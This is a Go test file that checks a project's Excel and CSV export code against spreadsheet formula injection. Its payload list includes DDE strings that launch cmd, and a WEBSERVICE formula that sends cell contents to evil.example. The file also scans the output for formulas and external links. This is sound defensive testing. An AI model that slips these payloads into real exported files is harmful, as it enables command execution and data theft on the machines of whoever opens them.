package export

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"dengji/normalize"
	"dengji/rules"
)

// payloads are texts that have run as formulas, links or markup in one program
// or another, or broken its files.
var payloads = []string{
	`=1+1`, `=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example","登录")`, `=WEBSERVICE("http://evil.example/?"&A1)`, `=IMPORTXML("http://evil.example","//a")`,
	`+1+1`, `+cmd|' /C notepad'!A1`, `-2+3`, `-2+3+cmd|' /C calc'!D2`, `@SUM(1+1)`, `@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, `＝1+1`, `＋1`, `－1`, `＠SUM(A1)`, `'=1+1`, `"=1+1`, `";=1+1;"`, `x","=1+1`, "x\r\n=1+1", `DDE("cmd";"/C calc";"x")`,
	`<script>alert(1)</script>`, `<f>1+1</f>`, `</t></is></c><c r="Z9"><f>1+1</f></c>`, `]]><f>1</f>`, `&lt;f&gt;`, `_x003D_1+1`, `{=1+1}`, `http://evil.example/`, `mailto:x@evil.example`, "\x00=1\x0b\ufffe",
}

// hostile is a record that has a payload wherever a document's text can come.
func hostile(payload string) *rules.Record {
	page := 1
	text := func(path string) rules.Field {
		return rules.Field{Path: path, Label: payload, Value: payload, Raw: payload, State: normalize.StateValue, Review: true,
			Flags: []rules.Flag{{Code: "copy_differs", Message: payload}}, Detail: map[string]any{"note": payload},
			Evidence: []rules.Evidence{{Path: payload + "/a.pdf", Raw: payload, Page: &page}, {Path: payload, Raw: payload, Cell: payload}}}
	}
	r := &rules.Record{ID: "aaaaaaaaaaaa", Status: rules.StatusReview, Form: formID, Data: rules.NewData(),
		Fields:  []rules.Field{text("enterprise.name"), text("enterprise.address"), text("contact.name"), text("products[0].name"), text("products[0].release_date"), text("products[0].category"), text("certificates[0].software_name")},
		Checks:  []rules.Check{{ID: payload, Clause: payload, Outcome: rules.Fail, Message: payload}},
		Missing: []rules.Missing{{Kind: payload, Message: payload}}}
	list := text("enterprise.business_categories")
	list.Value = []string{payload, payload}
	r.Fields = append(r.Fields, list)
	return r
}

// No text becomes a formula, a link, markup or another cell.
func TestPayloadsInWorkbook(t *testing.T) {
	if len(payloads) < 30 {
		t.Fatalf("%d payloads", len(payloads))
	}
	var all []*rules.Record
	for _, p := range payloads {
		all = append(all, hostile(p))
	}
	b := &Book{Records: all, Forms: forms(t)}
	var out bytes.Buffer
	if _, err := b.Write(context.Background(), &out); err != nil {
		t.Fatal(err)
	}
	harmless(t, out.Bytes())
	f, err := excelize.OpenReader(&out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(SheetReview)
	if err != nil {
		t.Fatal(err)
	}
	if want := len(payloads)*len(all[0].Fields) + 1; len(rows) != want {
		t.Errorf("%d rows, want %d", len(rows), want)
	}
	for i, p := range payloads {
		if got := rows[1+i*len(all[0].Fields)][8]; got != cleaned(p) {
			t.Errorf("%q has become %q", p, got)
		}
	}
}

// cleaned is a text as a workbook can hold it: XML has no control characters.
func cleaned(s string) string {
	return strings.NewReplacer("\x00", "\ufffd", "\x0b", "\ufffd", "\ufffe", "\ufffd").Replace(s)
}

// harmless looks through a workbook's XML for formulas and links to the outside.
func harmless(t *testing.T, data []byte) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	sheets := 0
	for _, part := range z.File {
		if !strings.HasSuffix(part.Name, ".xml") && !strings.HasSuffix(part.Name, ".rels") {
			continue
		}
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		dec := xml.NewDecoder(r)
		for {
			token, err := dec.Token()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Fatalf("%s: %v", part.Name, err)
			}
			start, ok := token.(xml.StartElement)
			if !ok {
				continue
			}
			switch start.Name.Local {
			case "sheetData":
				sheets++
			case "f", "externalReference", "oleObject", "ddeLink", "script":
				t.Errorf("%s has an element %s", part.Name, start.Name.Local)
			}
			for _, a := range start.Attr {
				if a.Name.Local == "TargetMode" && a.Value == "External" {
					t.Errorf("%s leads outside: %v", part.Name, start.Attr)
				}
			}
		}
		if err := r.Close(); err != nil {
			t.Fatal(err)
		}
	}
	if sheets < 4 {
		t.Errorf("%d sheets were looked at", sheets)
	}
}

func TestPayloadsInCSV(t *testing.T) {
	for _, p := range payloads {
		for _, opt := range []CSVOptions{{}, {Rows: "products"}, {Rows: "certificates"}} {
			var b bytes.Buffer
			if err := CSV(&b, []*rules.Record{hostile(p)}, opt); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&b).ReadAll()
			if err != nil || len(rows) != 2 {
				t.Fatalf("%q makes %d rows, %v", p, len(rows), err)
			}
			held := 0
			for _, c := range rows[1] {
				if strings.IndexAny(c, "=+-@\t\r\n＝＋－＠") == 0 {
					t.Errorf("%q stands in a cell as %q", p, c)
				}
				// csv.Writer keeps no carriage return of a text's own.
				if want := strings.ReplaceAll(p, "\r", ""); c == want || c == "'"+want {
					held++
				}
			}
			if held == 0 {
				t.Errorf("%q is lost: %q", p, rows[1])
			}
		}
	}
}
